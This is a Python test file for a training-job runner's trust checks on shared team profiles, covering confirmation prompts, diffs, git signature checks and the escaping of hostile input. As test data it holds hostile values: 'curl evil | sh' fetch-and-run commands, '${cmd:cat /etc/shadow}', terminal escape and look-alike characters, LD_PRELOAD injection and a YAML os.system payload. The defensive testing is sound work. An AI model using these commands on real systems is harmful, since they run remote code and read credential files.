"""A profile of a team library runs after a yes to exactly what it says; a change of it is shown, and asked about."""

from __future__ import annotations

import os
import re
import stat
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import click
import pytest
import yaml

from disttui.runner.api import library
from disttui.runner.api.library import DistrustError, check_shared, load_profile, read_profile
from disttui.runner.api.questions import Doubt, Unattended
from disttui.runner.api.rerunning import Again
from disttui.runner.cli import startup
from disttui.runner.cli.app import cli
from disttui.runner.errors import InputError
from disttui.runner.library.git import Repository, _ssh
from disttui.runner.profile.effects import Change, bounded, difference
from disttui.runner.profile.load import parse
from disttui.runner.profile.nodes import Source, read
from disttui.runner.profile.schema import Profile
from disttui.runner.text import masking
from disttui.tui.dialogs.prompts import TrustScreen
from disttui.tui.run.again import consequence
from tests.command import ran
from tests.files import new_file, new_folder
from tests.unit.history_kit import kept
from tests.unit.test_effects import asked, command

HF = "hf_" + "aB3dE5gH7jK9mN1pQ3sT5vW7" + "yZ"
TEAM = """
disttui: 1
name: train
hosts: [local]
job: {command: ["true"], workdir: WORK, env: {MODE: fast}}
"""


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A home with a team library in it."""
    for name in ("work", "team", "config"):
        (tmp_path / name).mkdir()
    new_file(tmp_path / "disttui" / "config.yaml", f"libraries: [own, {{name: team, folder: {tmp_path}/team}}]\n")
    for kind in ("CONFIG", "DATA", "STATE", "CACHE"):
        monkeypatch.setenv(f"XDG_{kind}_HOME", str(tmp_path))
    share(tmp_path, TEAM)
    return tmp_path


def share(home: Path, text: str) -> None:
    (home / "team" / "train.yaml").write_text(text.replace("WORK", str(home / "work")))


class Answers(Unattended):
    """Answers questions about profiles, and keeps them."""

    def __init__(self, answer: bool | None) -> None:
        self.answer, self.asked = answer, list[Doubt]()

    def trust_profile(self, doubt: Doubt) -> bool | None:
        """Answer."""
        self.asked.append(doubt)
        return self.answer


def asks(answer: bool | None = None, **how: Any) -> Doubt | None:
    """What is asked before the profile is used."""
    answers = Answers(answer)
    try:
        load_profile("train", questions=answers, **how)
    except DistrustError:
        assert not answer
    return answers.asked[0] if answers.asked else None


def test_each_command_that_runs_a_profile_takes_trust() -> None:
    group = cli.commands["profile"]
    assert isinstance(group, click.Group)
    for name, one in {**group.commands, **cli.commands}.items():
        if name not in ("run", "plan", "export", "sweep"):
            continue
        [option] = [each for each in one.params if each.name == "trust_profile"]
        assert option.opts == ["--trust-profile", "--trust"], name


def test_new_or_changed_profile_is_shown_and_needs_a_yes(home: Path) -> None:
    for words in (["run", "team/train"], ["sweep", "team/train", "--set", "job.env.MODE=fast,slow"]):
        done = command(home, *words)
        assert done.returncode == 2 and "it is new to you, from the library team" in done.stderr
        assert "not used until you confirm" in done.stderr and "or add --trust." in done.stderr
    shown = asked(home, b"n\n", ["profile", "plan", "team/train"])
    assert "  + job.command: on local: true\n  + hosts: local\n" in shown and "  + job.env.MODE: fast\n" in shown
    assert asks(True), "a no is no yes"
    assert asks() is None and asks(overrides=("job.env.MODE=slow",)) is None, "an override is the user's own"
    share(
        home, TEAM.replace("[local]", "[local, admin@payroll]").replace("MODE: fast", "MODE: fast, LD_PRELOAD: /x.so")
    )
    found = asks(False)
    assert found and "and changed since you confirmed it (" in str(found)
    assert found.changes[:7] == (
        "+ env.LD_PRELOAD: on local, payroll: /x.so",
        f"- job.workdir: on local: {home}/work",
        f"+ job.workdir: on local, payroll: {home}/work",
        "- job.command: on local: true",
        "+ job.command: on local, payroll: true",
        "+ hosts: payroll (admin@payroll)",
        "+ job.env.LD_PRELOAD: /x.so",
    )
    share(home, TEAM + "# a comment\n")
    assert asks() is None, "as it was agreed to"
    share(home, TEAM + "description: other words\n")
    assert asks(trusted=True) is None and asks() is None, "--trust is a yes"
    [kept] = (home / "disttui" / "agreed").iterdir()
    assert stat.S_IMODE(kept.stat().st_mode) == 0o600 and stat.S_IMODE(kept.parent.stat().st_mode) == 0o700
    kept.write_text("{")
    assert asks(), "what cannot be read is no yes"


def signing(home: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[..., None]:
    """Make the team's folder a clone that accepts only signed commits; returns git."""
    team, key = home / "team", home / "key"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key], check=True)
    (home / "signers").write_text(f"alice@example.org {(home / 'key.pub').read_text()}")
    settings = home / "gitconfig"
    settings.write_text(
        f"[user]\nname = Alice\nemail = alice@example.org\nsigningKey = {key}\n[gpg]\nformat = ssh\n"
        f'[gpg "ssh"]\nallowedSignersFile = {home}/signers\n'
    )
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(settings))

    def git(*words: str) -> None:
        subprocess.run(["git", "-C", team, *words], check=True, capture_output=True)

    team.chmod(0o755)
    git("init", "-q", "--shared=0644")
    git("add", ".")
    git("commit", "-qm", "one", "-S")
    config = home / "disttui" / "config.yaml"
    config.write_text(config.read_text().replace("{name: team", "{name: team, signed: true"))
    return git


@pytest.mark.git
def test_what_a_signed_library_sends_is_signed(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The script runs as well, not the profile alone."""
    new_file(home / "team/code/train.py", "1")
    git = signing(home, monkeypatch)
    code, script = home / "team/code", home / "team/code/train.py"

    def refused(path: Path = code) -> str:
        try:
            check_shared(path, "job.sync", os.environ)
        except InputError as error:
            return error.what
        return ""

    assert not refused() and not refused(script) and not refused(home / "team")
    script.write_text("2")
    assert "no commit has this content" in refused() and refused(script)
    git("commit", "-qam", "two")
    assert "is not signed" in refused() and refused(script) and refused(home / "team")
    git("commit", "-q", "--amend", "--no-edit", "-S")
    assert not refused() and not refused(script)
    (code / "sitecustomize.py").touch()
    assert refused() and not refused(script)
    (home / "elsewhere").mkdir()
    assert not refused(home / "elsewhere"), "not of the library"


@pytest.mark.git
def test_a_library_can_require_signed_commits(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    git = signing(home, monkeypatch)
    team = home / "team"
    found = asks(True)
    assert found and str(found).endswith("of Alice, is signed by alice@example.org")
    text = (team / "train.yaml").read_text() + "description: swapped\n"
    with monkeypatch.context() as patched:
        # Read while another text stood there, which was put back at once.
        patched.setattr(library, "read", lambda path: read(path)._replace(text=text))
        with pytest.raises(InputError, match="no commit has this content"):
            asks(trusted=True)
    share(home, TEAM + "description: edited here\n")
    with pytest.raises(InputError, match="no commit has this content"):
        asks(trusted=True)
    git("commit", "-qam", "two")
    done = command(home, "run", "--trust", "train")
    assert done.returncode == 2 and "of Alice, is not signed" in done.stderr and "git commit -S" in done.stderr
    git("commit", "-q", "--amend", "--no-edit", "-S")
    assert asks(trusted=True) is None
    share(home, TEAM + "description: everybody writes\n")
    (team / "train.yaml").chmod(0o666)
    with pytest.raises(InputError, match="no commit has this content"):
        asks(trusted=True)
    (team / "train.yaml").chmod(0o644)
    git("checkout", "-q", "train.yaml")
    (home / "signers").write_text(f"bob@example.org {(home / 'key.pub').read_text().replace('AAAA', 'AAAB', 1)}")
    with pytest.raises(InputError, match="accepts only signed commits"):
        asks()  # agreed to, and signed by nobody who is trusted any more


@pytest.mark.git
def test_a_clone_does_not_say_whose_signatures_are_trusted(tmp_path: Path) -> None:
    clone, key, settings = tmp_path / "clone", tmp_path / "key", tmp_path / "settings"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key], check=True)
    signing = f"[user]\nname = M\nemail = m@x\nsigningKey = {key}\n[gpg]\nformat = ssh\n"
    settings.write_text(signing)
    environ = {"HOME": str(tmp_path), "PATH": os.environ["PATH"], "GIT_CONFIG_GLOBAL": str(settings)}

    def git(*words: str) -> None:
        subprocess.run(["git", "-C", clone, *words], env=environ, check=True, capture_output=True)

    def status(trusted: str, revoked: str = "") -> str:
        files = f"allowedSignersFile = {trusted}\nrevocationFile = {revoked}\n" if trusted else ""
        settings.write_text(signing + '[gpg "ssh"]\n' + files)
        found = Repository(clone, environ).signature("a.yaml", content)
        assert found
        return found.status

    subprocess.run(["git", "init", "-q", clone], env=environ, check=True)
    content = b"disttui: 1\n"
    (clone / "a.yaml").write_bytes(content)
    signers = f"m@x {(tmp_path / 'key.pub').read_text()}"
    for file in (clone / "signers", tmp_path / "signers"):
        file.write_text(signers)
    (tmp_path / "nobody").touch()
    git("add", ".")
    git("commit", "-S", "-qm", "one")
    git("config", "gpg.ssh.allowedSignersFile", str(clone / "signers"))
    git("config", "gpg.ssh.revocationFile", "/dev/null")
    assert status(str(tmp_path / "signers")) == status("~/signers") == "G"
    assert status("") == status(str(tmp_path / "nobody")) == status("signers") == "U"
    assert status("~/signers", f"{key}.pub") != "G", "revoked by the user"


@pytest.mark.git
@pytest.mark.parametrize("place", [".config/git/config", "included"])
def test_signing_program_comes_from_the_users_git_settings(tmp_path: Path, place: str) -> None:
    home, clone, program = tmp_path / "home", tmp_path / "clone", tmp_path / "my-gpg"
    (home / ".config/git").mkdir(parents=True)
    (home / ".gitconfig").write_text(
        f'[user]\nname = Alice\nemail = a@x\n[includeIf "gitdir:{clone}/"]\npath = {home}/included\n'
    )
    new_file(program, f"#!/bin/sh\ncat > {tmp_path}/given\necho '[GNUPG:] SIG_CREATED ' >&2\necho signature\n", 0o755)
    (home / place).write_text(f"[gpg]\nprogram = {program}\n[core]\nsshCommand = my-ssh\n[commit]\ngpgSign = true\n")
    environ = {"HOME": str(home), "PATH": os.environ["PATH"]}
    subprocess.run(["git", "init", "-q", clone], env=environ, check=True)
    subprocess.run(["git", "-C", clone, "config", "gpg.program", "/bin/false"], check=True)
    made = Repository(clone, environ)
    commit = made.commit(None, {"a.yaml": made.store(b"disttui: 1\n")[0]}, "one")
    assert (tmp_path / "given").read_bytes().endswith(b"\n\none") and made.commit_of(commit) == commit
    if place != "included":
        assert _ssh(environ) == {"GIT_SSH_COMMAND": "my-ssh"}


@pytest.mark.git
@pytest.mark.parametrize("others", ["..", ".", ".git", ".git/config"])
def test_git_runs_nothing_that_others_have_configured(home: Path, others: str, monkeypatch: pytest.MonkeyPatch) -> None:
    team, mark = home / "team", home / "ran"
    program = new_file(home / "program", f"#!/bin/sh\ntouch {mark}\nexit 1\n", 0o755)
    team.chmod(0o755)

    def git(*words: str, given: str = "") -> str:
        who = ("-c", "user.name=m", "-c", "user.email=m@x")
        return ran(["git", "-C", team, *who, *words], input=given, check=True).stdout.strip()

    git("init", "-q", "--shared=0644")
    git("add", ".")
    git("commit", "-qm", "one")
    head, _, rest = git("cat-file", "commit", "HEAD").partition("\n\n")
    signed = f"{head}\ngpgsig -----BEGIN PGP SIGNATURE-----\n \n x\n -----END PGP SIGNATURE-----\n\n{rest}\n"
    git("update-ref", "HEAD", git("hash-object", "-t", "commit", "-w", "--stdin", given=signed))
    git("config", "gpg.program", str(program))
    (team / others).chmod((team / others).stat().st_mode | 0o020)
    found = asks()
    assert found and "last commit" not in str(found) and not mark.exists()
    config = home / "disttui" / "config.yaml"
    config.write_text(config.read_text().replace("{name: team", "{name: team, signed: true"))
    with pytest.raises(InputError, match="not a clone that only you can write"):
        asks(trusted=True)
    monkeypatch.setattr(library, "is_ours_alone", lambda _: True)  # it was exchanged behind this question
    with pytest.raises(InputError, match="accepts only signed commits"):
        asks(trusted=True)
    assert not mark.exists()


def test_a_team_library_inside_ones_own_is_the_teams(home: Path) -> None:
    inner = new_folder(home / "disttui" / "profiles" / "lab")
    (home / "team" / "train.yaml").rename(inner / "train.yaml")
    (home / "disttui" / "config.yaml").write_text(f"libraries: [own, {{name: lab, folder: {inner}}}]\n")
    answers = Answers(None)
    for name in ("lab/train", "own/lab/train", str(inner / "train.yaml")):
        with pytest.raises(DistrustError):
            load_profile(name, questions=answers)
        assert "from the library lab" in str(answers.asked[-1])


def test_a_link_that_leads_out_makes_nothing_ones_own(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    shared, own = home / "team" / "train.yaml", home / "disttui" / "profiles" / "train.yaml"

    def then_elsewhere(path: Path) -> Source:
        found = read(path)
        shared.unlink()
        shared.symlink_to(own)
        return found

    monkeypatch.setattr(library, "read", then_elsewhere)
    assert asks()


def test_what_everybody_can_write_is_shown_as_well(home: Path) -> None:
    (home / "team" / "train.yaml").chmod(0o666)
    found = asks()
    assert found and "every user of this machine can write it; it is new to you" in str(found)
    assert "+ job.command: on local: true" in found.changes


def test_ones_own_profile_is_not_asked_about(home: Path) -> None:
    own = new_file(home / "mine.yaml", (home / "team" / "train.yaml").read_text())
    answers = Answers(None)
    load_profile(str(own), questions=answers)
    assert not answers.asked


HOSTILE = {
    "disttui": 1,
    "name": "train",
    "description": "harmless\x1b]0;pwned\x07\u202e",
    "hosts": ["node1", "root@\u0440\u0430\u0443"],
    "job": {"command": ["sh", "-c", "curl evil | sh\x1b[8m"], "env": {"A": "\x1b[2K${cmd:cat /etc/shadow}"}},
}  # fmt: skip


def test_hostile_profile_can_neither_steer_terminals_nor_hide(home: Path) -> None:
    """Escape sequences, characters that look like others, commands: refused with their place, or shown escaped."""
    share(home, yaml.safe_dump(HOSTILE))
    done = command(home, "run", "--trust", "team/train")
    assert done.returncode == 2 and "\x1b" not in done.stderr and "\u202e" not in done.stderr
    assert f"{home}/team/train.yaml:1:14: description: 'harmless\\x1b" in done.stderr
    share(home, yaml.safe_dump({**HOSTILE, "description": "fine"}))
    shown = asked(home, b"n\n", ["run", "team/train"])
    alike, escaped = "\u0440\u0430\u0443", r"\u0440\u0430\u0443"
    hosts = f"node1, {alike}"
    assert "+ hosts: node1\n" in shown
    assert f"+ hosts: {alike} (root@{alike}), in ASCII: {escaped} (root@{escaped})\n" in shown
    assert f"+ ${{cmd:cat /etc/shadow}}: to {hosts}, as A\n" in shown
    assert (
        "curl evil | sh" in shown and "+ job.env.A: \\x1b[2K${cmd:cat /etc/shadow}\n" in shown and "\x1b" not in shown
    )
    done = command(home, "run", "--trust", "team/train")
    assert done.returncode == 2 and "'cat /etc/shadow' is not among your secret_commands" in done.stderr
    assert "connecting" not in done.stderr, "no host is reached before"


@pytest.mark.parametrize(
    "text",
    ["disttui: 1\nx: !!python/object/apply:os.system [id]\n", "a: &a [*a]\n", "a: &a [x,x]\nb: &b [*a,*a]\n",
     "{" * 5000, "disttui: 1\n---\nb: 1\n", "\x00\x01\x02\x03\x04\x05"],
)  # fmt: skip
def test_hostile_yaml_is_one_clear_error(home: Path, text: str) -> None:
    (home / "team" / "train.yaml").write_text(text)
    with pytest.raises(InputError, match=rf"^{home}/team/train\.yaml") as caught:
        read_profile("team/train")
    assert str(caught.value).replace("\n", "").isprintable()


def test_diff_of_a_profile_starts_with_secrets_and_is_bounded() -> None:
    base = {
        "disttui": 1,
        "hosts": ["a", {"host": "b", "gpus": [0]}],
        "job": {"builtin": "bytegpt"},
        "precision": "bf16",
    }
    other = {**base, "precision": "auto", "on_end": {"webhook": "https://h.example/T1"}, "env": {"K": "${env:KEY}"}}
    other["hosts"] = ["a", {"host": "b", "gpus": [1]}]
    before, now = (parse(yaml.safe_dump(one), "p") for one in (base, other))
    lines = every(before, now)
    assert lines[0].startswith("+ on_end.webhook: on this machine") and lines[1] == "+ ${env:KEY}: to a, b, as K"
    assert "- hosts.b.gpus: 0" in lines and "+ hosts.b.gpus: 1" in lines and "- precision: bf16" in lines
    third = parse(yaml.safe_dump({**other, "on_end": {"webhook": "https://h.example/T2"}}), "p")
    assert len(every(now, third)) == 2 and not any("T2" in line for line in every(now, third))
    assert every(now, now) == []
    twins = [{"host": "a", "port": port, "gpus": [port]} for port in (1, 2)]
    lines = every(None, parse(yaml.safe_dump({**base, "hosts": twins}), "p"))
    assert {"+ hosts.a.gpus: 1", "+ hosts.a#1.gpus: 2"} <= {*lines}, "no host hides another"
    many = bounded([Change(f"+ env.A{n}: {'x' * 3000}", always=False) for n in range(1000)])
    assert len(many) == 201 and max(map(len, many)) < 1100 and many[-1] == "… and 800 more lines: read the file"


def profile(**keys: Any) -> Profile:
    return parse(yaml.safe_dump({"disttui": 1, "hosts": ["a"], "job": {"command": ["true"]}, **keys}), "p")


def every(before: Profile | None, now: Profile) -> list[str]:
    return [line.text for line in difference(before, now)]


def changes(before: Profile | None, now: Profile) -> list[str]:
    return bounded(difference(before, now))


def test_secret_looking_value_hides_no_host_or_command() -> None:
    """The profile's author chooses what looks like a secret."""
    words = ["sh", "-c", "curl${IFS}e1|sh", "TOKEN=a1;curl${IFS}e1|sh", HF]
    env = {"X_PWD": "evil.example1.org", "A_PASSWORD": words[2], "B_PASSWORD": 1234567890}
    text = "\n".join(changes(None, profile(hosts=["evil.example1.org"], job={"command": words, "env": env})))
    assert "+ hosts: evil.example1.org\n" in text
    assert f"+ job.command: on evil.example1.org: sh -c 'curl${{IFS}}e1|sh' 'TOKEN=a1;curl${{IFS}}e1|sh' {HF}\n" in text
    assert all(f"+ job.env.{name}: ***" in text.splitlines() for name in env)
    masking.suspect("evil.example1.org")  # of another profile
    masking.learn("of-the-user")
    text = "\n".join(changes(None, profile(hosts=["evil.example1.org"], env={"A": "x" * 995 + "of-the-user"})))
    assert "+ hosts: evil.example1.org\n" in text and "of-th" not in text, "masked before it is cut"


def test_one_host_among_a_hundred_is_seen_to_change() -> None:
    hosts = [f"node{number:03}" for number in range(100)]
    env = {"HF_TOKEN": "${env:HF_TOKEN}"}
    before, now = profile(hosts=hosts, env=env), profile(hosts=[*hosts[:70], "evil070", *hosts[71:]], env=env)
    assert changes(before, now) == ["- hosts: node070", "+ hosts: evil070"]
    first = changes(None, before)
    assert "+ hosts: node099" in first and "+ ${env:HF_TOKEN}: to all 100 hosts, as HF_TOKEN" in first
    some = [{"host": host, "env": env} if at % 2 else host for at, host in enumerate(hosts)]
    assert f"+ ${{env:HF_TOKEN}}: to {', '.join(hosts[1::2])}, as HF_TOKEN" in changes(None, profile(hosts=some))
    turned = profile(hosts=[hosts[1], hosts[0], *hosts[2:]], env=env)
    assert changes(before, turned)[0].startswith("+ hosts: in another order: node001, node000, node002, ")


def test_a_change_behind_a_thousand_characters_is_shown() -> None:
    long = "x" * 5000
    before, now = (profile(job={"command": ["sh", "-c", f"{long} {what} {long}"]}) for what in ("true", "curl evil|sh"))
    gone, added = changes(before, now)
    assert re.fullmatch(
        r"- job.command: \(4,9\d\d characters as before\) …x+ true x+… \(4,9\d\d characters as before\)", gone
    )
    assert "x curl evil|sh x" in added and len(added) < 200
    before, now = (profile(job={"command": ["sh", "-c", long + more]}) for more in ("", " ;curl evil|sh"))
    assert changes(before, now)[1].endswith("x ;curl evil|sh'")


def test_activate_and_python_are_listed_once_with_their_hosts() -> None:
    line, path = "source v/bin/activate", "~/v/bin/python"
    hosts = ["a", {"host": "b", "activate": "module load cuda", "python": path}]
    now = profile(hosts=hosts, activate=line)
    lines = changes(None, now)
    assert [one for one in lines if "activate" in one or "python" in one] == [
        f"+ python: on b, also during checks: {path}",
        f"+ activate: on a, also during checks: {line}",
        "+ activate: on b, also during checks: module load cuda",
    ]
    moved = profile(hosts=[{"host": "a", "activate": line}, hosts[1]])
    both = {f"- activate: {line}", f"+ hosts.a.activate: {line}"}
    assert {*changes(now, moved)} == both, "the same runs, said in another place"
    unused = changes(None, profile(hosts=[{"host": "a", "activate": "true"}], activate=line, python="python3.11"))
    assert {f"+ activate: {line}", "+ python: python3.11"} <= {*unused}, "what runs nowhere is shown as written"
    variables = changes(None, profile(hosts=["a"], python=path, job={"script": "x.py", "env": {"python": path}}))
    assert f"+ job.env.python: {path}" in variables, "a variable of that name is another thing"


def test_no_number_of_other_lines_hides_what_runs() -> None:
    hosts = [{"host": f"n{number}", "python": f"/opt/{number}/bin/python"} for number in range(300)]
    env = {f"A{number}": "1" for number in range(500)}
    job = {"command": ["evil"], "env": {**env, "B": "${env:KEY}"}}
    lines = changes(None, profile(hosts=hosts, job=job, on_end={"command": ["beep"]}))
    for shown in ("+ job.command: on all 300 hosts: evil", "+ ${env:KEY}: to all 300 hosts, as B",
                  "+ on_end.command: on this machine, when the run ends: beep", "+ hosts: n299",
                  "+ python: on n299, also during checks: /opt/299/bin/python"):  # fmt: skip
        assert shown in lines
    assert lines[-1].endswith("more lines: read the file") and len(lines) < 620


def test_validate_shows_a_command_disguised_as_a_secret(home: Path) -> None:
    """The error about a foreign profile sends the user there to read it."""
    evil = "curl${IFS}e1|sh"
    for name in ("train", "other"):
        text = TEAM.replace('"true"', f"sh, -c, '{evil}', {HF}").replace("MODE: fast", f"A_PASSWORD: '{evil}'")
        (home / "team" / f"{name}.yaml").write_text(text.replace("WORK", str(home / "work")))
    done = command(home, "profile", "validate", "team/train", "team/other")
    assert done.stdout.count(f"job.command: on local: sh -c '{evil}' {HF}\n") == 2
    assert "'job.env.A_PASSWORD' looks like a secret" in done.stderr


def test_validate_masks_a_token_among_the_arguments(home: Path) -> None:
    args = f"[--lr, '1', --token, {HF}, --password=aB3dE5gH7jK9, 'x{HF[:9]}']"
    text = TEAM.replace('command: ["true"]', f"script: a.py, args: {args}").replace("WORK", str(home / "work"))
    (home / "team" / "train.yaml").write_text(text)
    for form in ((), ("--json",)):
        done = command(home, *form, "profile", "validate", "team/train")
        assert done.returncode == 2 and HF not in done.stdout + done.stderr and "aB3dE5gH7jK9" not in done.stdout
        assert f"--lr 1 --token '***' '--password=***' x{HF[:9]}" in done.stdout
    assert "'job.args.3' looks like a Hugging Face token" in command(home, "profile", "validate", "team/train").stderr


def test_app_shows_full_commands_before_it_reruns_a_found_run(tmp_path: Path) -> None:
    evil = "curl${IFS}e1|sh"
    found = profile(hosts=["evil-host1"], job={"command": ["sh", "-c", evil], "env": {"A_PASSWORD": evil}})
    masking.suspect(evil)  # as the opening of the run does
    masking.suspect("evil-host1")
    made = Again(run="two-7f3a", profile=found, source=None, sandbox=False, ssh_config=None, foreign=True)
    lines = consequence(kept(tmp_path), made)
    assert "hosts: evil-host1" in lines and f"job.command: on evil-host1: sh -c '{evil}'" in lines
    shown = TrustScreen(f"Run on {lines[0]}?", "\n".join(lines), "run")
    assert evil in shown._consequence and "***" not in shown._question + shown._consequence


@pytest.mark.parametrize("many", [{"hosts": [f"n{at}" for at in range(250)]}, {"env": {}}])
def test_no_number_of_hosts_and_secrets_hides_what_runs(many: dict[str, Any]) -> None:
    evil = {"activate": "curl evil|sh", "python": "/tmp/evil/python"}
    before, now = ({"env": {f"V{at}": f"${{env:{name}{at}}}" for at in range(250)}, **many} for name in "AB")
    now["env"] = {**now["env"], "LD_PRELOAD": "/tmp/e.so"}
    for first in (None, profile(**before)):
        lines = changes(first, profile(**now, **evil))
        above = "\n".join(lines[: lines.index("+ env.LD_PRELOAD: /tmp/e.so")])
        assert "curl evil|sh" in above and "/tmp/evil/python" in above and "+ hosts" not in above


def test_a_package_with_the_name_of_a_token_is_shown() -> None:
    before, now = (profile(activate=f"pip install sk-{name}-of-somebody-else") for name in ("learn", "evil"))
    lines = changes(before, now)
    assert "- activate: on a, also during checks: pip install sk-learn-of-somebody-else" in lines
    assert "+ activate: on a, also during checks: pip install sk-evil-of-somebody-else" in lines
    assert not any("***" in line for line in lines)


def test_validate_shows_a_value_once_disguised_as_a_secret(
    home: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    evil = "https://evil.example/p1.sh"
    masking.suspect(evil)
    masking.learn("of-the-user")
    share(home, TEAM + f"activate: curl {evil} of-the-user\n")
    startup._mask(sys.stdout)
    monkeypatch.setattr(sys, "argv", ["disttui"])
    with pytest.raises(SystemExit, match="0"):
        cli(["profile", "validate", "team/train"])
    print(evil)
    shown = capsys.readouterr().out
    assert f"curl {evil} ***\n" in shown and shown.endswith("***\n"), "only what is read before a yes"
    assert evil in str(Doubt(profile(), f"it is from {evil}"))
